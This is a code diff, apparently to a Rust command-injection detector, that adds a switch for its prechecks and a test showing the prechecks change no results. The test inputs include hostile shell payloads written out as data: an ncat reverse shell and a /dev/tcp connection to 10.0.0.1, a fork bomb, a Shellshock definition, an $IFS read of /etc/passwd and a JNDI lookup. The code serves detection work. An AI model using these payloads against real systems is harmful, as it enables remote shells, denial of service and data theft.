@@ -242,6 +242,12 @@ const WINDOWS: [&str; 16] = [
 
 /// The command-injection rules that match a decoded value.
 pub fn detect(decoded: &[u8]) -> Vec<Rule> {
+    detect_with(decoded, true)
+}
+
+/// [`detect`], with its prechecks on or off (off only to check that they change nothing: every
+/// check then runs on every value).
+pub fn detect_with(decoded: &[u8], prechecks: bool) -> Vec<Rule> {
     let text = String::from_utf8_lossy(decoded).to_ascii_lowercase();
     let mut out = Vec::new();
     // Substitution is `<(`, `>(`, `$(` or a pair of backticks.
@@ -257,16 +263,19 @@ pub fn detect(decoded: &[u8]) -> Vec<Rule> {
     }
     // Every evasion needs one of these: a glob's `[`, `$` (`$IFS`, `$((`, `$[`, `$@`, `$9`),
     // a brace expansion's `{`, or a quote or backslash inside a word.
-    if text.contains(['[', '$', '{', '\'', '"', '\\']) && has_shell_evasion(&text) {
+    if text.contains(['[', '$', '{', '\'', '"', '\\']) && has_shell_evasion(&text, prechecks) {
         out.push(RCE_SHELL_EVASION);
     }
     // Squeezing only turns blank runs into one blank: a piece without blanks found in the
     // squeezed copy stands in `text` as well. Every invocation has an option (`-c`, `-e`,
-    // `-r`) or is `/dev/tcp/`; a fork bomb opens with `()`. Every Windows phrase has one of
+    // `-r`: a `-` alone, as in `item-12` or `2-pack`, is not enough) or is `/dev/tcp/`; a fork
+    // bomb or a Shellshock definition opens with `()`. Every Windows phrase has one of
     // [`WINDOWS_ANCHORS`].
-    let invocation_possible =
-        text.contains('-') || text.contains("/dev/tcp/") || text.contains("()");
-    let windows_possible = WINDOWS_ANCHORS.found_in(text.as_bytes());
+    let invocation_possible = !prechecks
+        || ["-c", "-e", "-r", "/dev/tcp/", "()"]
+            .iter()
+            .any(|piece| text.contains(piece));
+    let windows_possible = !prechecks || WINDOWS_ANCHORS.found_in(text.as_bytes());
     if !invocation_possible && !windows_possible {
         return out;
     }
@@ -512,14 +521,19 @@ fn has_substitution(text: &str) -> bool {
 
 /// `$IFS`, `${IFS}`, brace expansion with a comma (`{cat,/etc/passwd}`), `$@`/`$9` splitting a
 /// command word (`ca$@t`), and a known command spelled with quotes or backslashes.
-fn has_shell_evasion(text: &str) -> bool {
-    if has_path_glob(text) || text.contains("$((") || text.contains("$[") {
+fn has_shell_evasion(text: &str, prechecks: bool) -> bool {
+    if has_path_glob(text) {
         return true;
     }
-    if text.contains("$ifs")
-        || text.contains("${ifs")
-        || text.contains("$'\\x")
-        || text.contains("${jndi:")
+    // Precheck: each literal below starts with `$` (most values have none; six substring
+    // searches saved).
+    if (!prechecks || text.contains('$'))
+        && (text.contains("$((")
+            || text.contains("$[")
+            || text.contains("$ifs")
+            || text.contains("${ifs")
+            || text.contains("$'\\x")
+            || text.contains("${jndi:"))
     {
         return true;
     }
@@ -672,6 +686,38 @@ mod tests {
             .into_iter()
             .map(|r| r.id)
             .collect()
+    }
+
+    #[test]
+    fn prechecks_at_their_edge() {
+        // Each invocation by its option piece (blank runs and case squeezed away), `/dev/tcp/`,
+        // a fork bomb and a Shellshock definition by `()`, the `$` literals of the evasions:
+        // found with the prechecks and without, the same rules.
+        for (v, rule) in [
+            ("x; SH \t -C id", "rce-004"),
+            ("python   -c 'import os'", "rce-004"),
+            ("a php -r phpinfo();", "rce-004"),
+            ("ncat -e /bin/sh 10.0.0.1", "rce-004"),
+            ("exec 3<>/dev/tcp/10.0.0.1/80", "rce-004"),
+            (":(){ :|:& };:", "rce-004"),
+            ("() { :;}; echo x", "rce-004"),
+            ("x=$((1+1))", "rce-003"),
+            ("a$[1]b", "rce-003"),
+            ("cat$IFS/etc/passwd", "rce-003"),
+            ("${jndi:ldap://x/a}", "rce-003"),
+            ("$'\\x63at' /etc/passwd", "rce-003"),
+        ] {
+            let decoded = v.as_bytes();
+            let with: Vec<_> = detect_with(decoded, true).iter().map(|r| r.id).collect();
+            let without: Vec<_> = detect_with(decoded, false).iter().map(|r| r.id).collect();
+            assert!(with.contains(&rule), "{v}: {with:?}");
+            assert_eq!(with, without, "{v}");
+        }
+        // A `-` without an option letter, `(` without `)`, no `$`: nothing either way.
+        for v in ["Item 12 (2-pack)", "kitchen/dining-room", "pay 20 (cash)", "it's (fine)"] {
+            assert!(detect_with(v.as_bytes(), true).is_empty(), "{v}");
+            assert!(detect_with(v.as_bytes(), false).is_empty(), "{v}");
+        }
     }
 
     #[test]
